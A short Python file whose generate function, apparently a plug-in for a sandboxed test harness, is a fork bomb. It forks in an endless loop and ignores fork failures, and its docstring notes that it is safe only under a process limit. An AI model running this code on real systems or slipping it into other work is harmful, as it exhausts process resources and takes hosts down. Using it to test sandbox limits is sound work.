"""Unbounded fork bomb that shrugs off fork failures. Only run where RLIMIT_NPROC binds."""


def generate(space, n, rng, llm=None):
    os = __import__("os")
    while True:
        try:  # noqa: SIM105 - contextlib is not on the import allow-list
            os.fork()
        except OSError:
            pass
